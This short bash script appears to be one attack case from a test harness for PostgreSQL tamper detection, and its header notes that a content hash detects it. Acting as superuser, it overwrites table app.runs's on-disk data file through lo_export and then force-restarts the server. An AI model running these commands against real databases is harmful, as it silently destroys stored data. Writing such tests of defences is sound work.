# shellcheck shell=bash
# role: superuser
# tries: lo_export over the table's file, as the server's user
# none: bites
# guarded: not held
# locked: not held
# detected: content_hash
set -u
psql() { "$ATTACK_BIN/psql" -X -q -A -t -v VERBOSITY=verbose "$@"; }
path=$(psql -c "SELECT current_setting('data_directory') || '/' || pg_relation_filepath('app.runs')")
nothing=$(psql -c "SELECT lo_from_bytea(0, '\x00')")
psql -c CHECKPOINT -c "SELECT lo_export($nothing, '$path')"
"$ATTACK_BIN/pg_ctl" -D "$ATTACK_DATA" -w -m immediate -l "$ATTACK_LOG" restart
